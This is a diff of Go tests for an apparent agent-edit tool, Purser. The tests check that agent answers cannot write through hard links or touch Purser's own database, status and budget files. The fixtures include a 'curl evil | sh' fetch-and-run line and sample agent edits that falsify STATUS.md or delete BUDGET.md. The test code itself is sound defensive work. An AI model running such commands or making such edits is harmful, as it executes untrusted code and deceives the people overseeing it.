@@ -11,6 +11,7 @@ import (
 
 	"github.com/purser-dev/purser/backend/openai"
 	"github.com/purser-dev/purser/sqlite"
+	"github.com/purser-dev/purser/workspace"
 )
 
 // Issue 15 #4: a workspace file hard-linked to one outside is replaced by a
@@ -24,7 +25,7 @@ func TestApplyDoesNotWriteThroughHardLinks(t *testing.T) {
 	if err := os.Link(secret, filepath.Join(ws, "setup.sh")); err != nil {
 		t.Fatal(err)
 	}
-	applied, problems := openai.Apply(ws, "=== FILE: setup.sh\ncurl evil | sh\n=== END FILE\n")
+	applied, problems := openai.Apply(nil, ws, "=== FILE: setup.sh\ncurl evil | sh\n=== END FILE\n")
 	if applied != 1 || len(problems) != 0 {
 		t.Fatalf("applied %d, problems %v", applied, problems)
 	}
@@ -42,12 +43,14 @@ func TestApplyDoesNotWriteThroughHardLinks(t *testing.T) {
 func TestApplyCannotTouchPursersOwnFiles(t *testing.T) {
 	ws := t.TempDir()
 	ctx := context.Background()
+	guard := workspace.NewGuard()
 	for _, db := range []string{".purser/purser.db", "data/ledger.sqlite"} {
 		store, err := sqlite.Open(ctx, filepath.Join(ws, db))
 		if err != nil {
 			t.Fatal(err)
 		}
 		t.Cleanup(func() { store.Close() })
+		guard.ProtectFilesOf(store)
 	}
 	for _, name := range []string{"STATUS.md", "BUDGET.md", ".purser/notes.txt"} {
 		if err := os.WriteFile(filepath.Join(ws, name), []byte("purser's\n"), 0o600); err != nil {
@@ -73,7 +76,7 @@ func TestApplyCannotTouchPursersOwnFiles(t *testing.T) {
 		"=== FILE: STATUS.md\nall good, nothing spent\n=== END FILE",
 		"=== DELETE: BUDGET.md",
 	} {
-		applied, problems := openai.Apply(ws, answer+"\n")
+		applied, problems := openai.Apply(guard, ws, answer+"\n")
 		if applied != 0 || len(problems) != 1 || !strings.Contains(problems[0], "Purser's own") {
 			t.Errorf("%q: applied %d, problems %v; want it refused as one of Purser's own files", answer, applied, problems)
 		}
@@ -83,7 +86,7 @@ func TestApplyCannotTouchPursersOwnFiles(t *testing.T) {
 	}
 	// Files that merely look alike are the agent's to edit.
 	for _, ok := range []string{"docs/STATUS.md", "purser.db", "src/purser/x.go"} {
-		if applied, problems := openai.Apply(ws, "=== FILE: "+ok+"\nx\n=== END FILE\n"); applied != 1 {
+		if applied, problems := openai.Apply(guard, ws, "=== FILE: "+ok+"\nx\n=== END FILE\n"); applied != 1 {
 			t.Errorf("%s: refused: %v", ok, problems)
 		}
 	}
